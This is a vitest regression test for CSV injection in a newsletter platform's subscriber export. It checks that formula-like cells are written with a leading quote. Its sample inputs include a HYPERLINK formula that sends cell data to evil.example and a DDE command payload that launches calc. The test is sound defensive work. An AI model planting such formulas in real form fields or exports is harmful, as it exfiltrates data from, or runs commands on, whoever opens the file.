/**
 * CSV injection in the subscriber export (issue 26, point 7): a reader subscribes on the public
 * form with a name and a city that a spreadsheet would run as formulas, and confirms from the
 * e-mail. The publisher's export writes those cells with a leading quote (as text), the rest of
 * the text intact and quoted as CSV needs; an ordinary subscriber's cells are unchanged; what was
 * typed is stored as typed.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readOutbox } from '../../core/server/services/mail';
import type { SubscriberTables } from '../../plugins/subscribers/server/tables';
import { enginesFor, startTestServer, type TestServer } from '../api/server';

const databases = enginesFor('embedded');

const formulaName = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
const formulaCity = "+cmd|' /C calc'!A0";

describe.each(databases)('the subscriber export on %s', (kind) => {
  let t: TestServer;
  let editor: string;
  let newsletterId: string;
  let nextAddress = 1;

  /** Subscribes as a reader would: the landing page's form, then the link of the confirmation e-mail. */
  const subscribe = async (email: string, name: string, city: string) => {
    const asked = await t.server.app.inject({
      method: 'POST',
      url: '/n/sabah-bulteni/subscribe',
      remoteAddress: `198.51.100.${nextAddress++}`,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ email, name, city }).toString(),
    });
    expect(asked.statusCode).toBe(200);
    const confirmation = readOutbox(t.dataDir).find((message) => message.to === email);
    const path = /http:\/\/console\.test(\/n\/[^/\s"]+\/confirm\/[\w.-]+)/.exec(confirmation?.text ?? '')?.[1];
    expect(path, 'the confirmation link').toBeDefined();
    expect((await t.server.app.inject({ method: 'GET', url: path! })).statusCode).toBe(200);
  };

  beforeAll(async () => {
    t = await startTestServer(kind);
    editor = await t.login('editor@masthead.local');
    newsletterId = (await t.server.database.db.selectFrom('newsletters').select('id').where('key', '=', 'sabah-bulteni').executeTakeFirstOrThrow()).id;
    // The form asks for a city only where the newsletter's web design says so (decision 0038): this one asks.
    const director = await t.login('director@masthead.local');
    const designPath = `/api/newsletters/update/${newsletterId}/design/web/update`;
    const { cover } = (await t.request('GET', designPath, { token: director })).body.data.body;
    expect((await t.request('PUT', designPath, { token: director, body: { cover, nameField: 'optional', cityField: 'optional' } })).status).toBe(200);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('writes cells that start like a formula with a leading quote, and ordinary cells unchanged', async () => {
    await subscribe('formul.okur@example.com', formulaName, formulaCity);
    await subscribe('siradan.okur@example.com', 'Deniz Okur', 'İzmir');
    // Stored as typed: only the file neutralises.
    const stored = await t.server.database.db
      .withTables<SubscriberTables>()
      .selectFrom('subscribers')
      .select(['name', 'city'])
      .where('newsletter_id', '=', newsletterId)
      .where('email', '=', 'formul.okur@example.com')
      .executeTakeFirstOrThrow();
    expect(stored).toEqual({ name: formulaName, city: formulaCity });

    const exported = await t.server.app.inject({
      method: 'GET',
      url: `/api/newsletters/list/${newsletterId}/subscriptions/export`,
      headers: { authorization: `Bearer ${editor}` },
    });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
    // No cell of the file begins with the formula: neither bare nor inside quotes.
    expect(exported.body).not.toMatch(/(^|,)"?[=+]/m);

    const rows = parse(exported.body, { columns: true }) as { email: string; name: string; city: string; created_at: string }[];
    const attacker = rows.find((row) => row.email === 'formul.okur@example.com');
    expect(attacker).toMatchObject({ name: `'${formulaName}`, city: `'${formulaCity}` });
    const ordinary = rows.find((row) => row.email === 'siradan.okur@example.com');
    expect(ordinary).toMatchObject({ name: 'Deniz Okur', city: 'İzmir' });
    expect(exported.body).toContain('siradan.okur@example.com,Deniz Okur,İzmir,');
  });
});
